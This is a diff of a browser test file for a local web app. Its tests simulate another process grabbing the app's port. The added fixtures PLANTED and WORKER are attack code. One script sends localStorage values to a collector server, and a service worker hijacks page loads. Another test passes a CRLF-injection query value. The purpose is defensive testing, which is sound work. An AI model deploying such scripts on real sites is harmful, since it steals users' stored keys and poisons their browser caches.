@@ -5,7 +5,7 @@ from __future__ import annotations
 import json
 import socket
 import threading
-from collections.abc import Callable, Iterator
+from collections.abc import Callable, Iterator, Mapping
 from contextlib import contextmanager
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
@@ -24,18 +24,22 @@ EVIL = '<body data-csrf="x"><main id="main"><h1 id="evil">Evil</h1></main></body
 
 
 @contextmanager
-def listening(port: int = 0, said: str = EVIL) -> Iterator[tuple[int, list[str]]]:
-    """A server of somebody else, which says the same to everybody; its port, and all that it was sent."""
+def listening(
+    port: int = 0, said: Mapping[str, tuple[str, str]] = {"": ("text/html", EVIL)}, cached: str = "no-store"
+) -> Iterator[tuple[int, list[str]]]:
+    """A server of somebody else, which says the same to paths that end alike; its port, and all that it was sent."""
     sent: list[str] = []
 
     class Answers(BaseHTTPRequestHandler):
         def do_GET(self) -> None:
             length = int(self.headers["Content-Length"] or 0)
             sent.append(f"{self.requestline}\n{self.headers}\n{self.rfile.read(length).decode()}")
+            kind, text = next(said[ending] for ending in said if self.path.endswith(ending))
             self.send_response(200)
-            self.send_header("Content-Type", "text/html")
+            self.send_header("Content-Type", kind)
+            self.send_header("Cache-Control", cached)
             self.end_headers()
-            self.wfile.write(said.encode())
+            self.wfile.write(text.encode())
 
         do_POST = do_GET
 
@@ -150,15 +154,58 @@ def test_who_takes_the_port_gets_nothing_that_was_typed_and_is_not_believed(
         assert not any("cents" in each or seal in each for each in sent)
         assert page.locator("#evil").count() == 0
     again = serve(lived)
-    assert again.base == first.base
-    page.get_by_role("button", name="Save").click()
-    expect(page.locator("#ended")).to_be_visible()  # what the browser has kept lets nobody in
     page.context.new_page().goto(again.url)
-    expect(page.locator("#ended")).to_be_hidden()
-    expect(page.get_by_label("Title")).to_have_value("Prices are cents")
     page.get_by_role("button", name="Save").click()
-    expect(page.locator("#notice")).to_contain_text("Saved.")
-    assert "Prices are cents" in ids_of(lived)
+    expect(page.locator("#ended")).to_be_visible()  # whoever had the port may still have a page open here
+    expect(page.get_by_label("Title")).to_have_value("Prices are cents")
+    assert "Prices are cents" not in ids_of(lived)
+
+
+PLANTED = """<body><h1 id="evil">Evil</h1><script>
+onstorage = ({ newValue }) => fetch("http://127.0.0.1:%d/" + encodeURIComponent(newValue), { mode: "no-cors" });
+navigator.serviceWorker.register("/sw.js").then(() => navigator.serviceWorker.ready)
+  .then(() => Promise.all(["/", "/static/enter.js", "/static/key.js"].map((url) => fetch(url))))
+  .then(() => (document.title = "planted"));
+</script></body>"""
+WORKER = """if (self.registration) {
+  addEventListener("fetch", (event) => event.request.mode === "navigate" &&
+    event.respondWith(new Response('<h1 id="evil">Evil</h1>', { headers: { "Content-Type": "text/html" } })));
+} else document.documentElement.innerHTML = '<h1 id="evil">Evil</h1>';"""
+
+
+def test_what_somebody_left_in_the_browser_while_they_had_the_port_gets_no_later_key(
+    world: World, visit: Visit, serve: Serve
+) -> None:
+    """A worker and a cached script answer for an address without its server, and a page left open reads its key."""
+    first = serve(world)
+    page = visit(world, served=first, refused=True)
+    first.process.kill()
+    first.process.wait()
+    with listening() as (other, sent):
+        pages = {".js": ("text/javascript", WORKER), "": ("text/html", PLANTED % other)}
+        with listening(urlsplit(first.url).port or 0, pages, "max-age=9999"):
+            for address in (first.base, first.address):
+                left_open = page.context.new_page()
+                left_open.goto(address)
+                expect(left_open).to_have_title("planted")
+        again = serve(world)
+        assert again.address == first.address
+        page.goto(Path(again.file).as_uri())
+        expect(page.get_by_role("heading", name="Today")).to_be_visible()
+        assert kept_by(page)
+        assert sent == []
+
+
+def test_address_that_stays_and_one_of_before_lead_to_the_page(world: World, visit: Visit, serve: Serve) -> None:
+    first = serve(world)
+    first.process.terminate()
+    first.process.wait()
+    served = serve(world)
+    page = visit(world, served=served, refused=True)
+    for address in (served.address, first.base + "/"):
+        page.goto(f"{address}memories?q=%0d%0ax:1")
+        expect(page.get_by_role("heading", name="Memories")).to_be_visible()
+        assert page.url == f"{served.base}/memories?q=%0d%0ax:1"
 
 
 def test_nobody_else_can_take_the_other_kind_of_address_of_our_port(world: World, serve: Serve) -> None:
@@ -173,7 +220,7 @@ def test_address_is_the_same_each_day(world: World, serve: Serve) -> None:
     def ended(served: Served) -> str:
         served.process.terminate()
         served.process.wait()
-        return served.base
+        return served.address
 
     first = ended(serve(world))
     assert ended(serve(world)) == first
@@ -194,11 +241,11 @@ def test_projects_beside_each_other_have_servers_of_their_own(world: World, serv
     other = world.home / "other"
     other.mkdir()
     second = serve(world, "--project-root", str(other))
-    assert urlsplit(second.url).hostname == urlsplit(first.url).hostname
+    assert urlsplit(second.address).hostname == urlsplit(first.address).hostname
     assert urlsplit(second.url).port != urlsplit(first.url).port
     assert second.process.poll() is None
     done = world.run("ui", "--no-browser")
-    assert f"runs already: {first.base}/\n" in done.stdout
+    assert f"runs already: {first.address}\n" in done.stdout
 
 
 def test_address_with_the_token_is_printed_to_a_terminal_alone(world: World, serve: Serve) -> None:
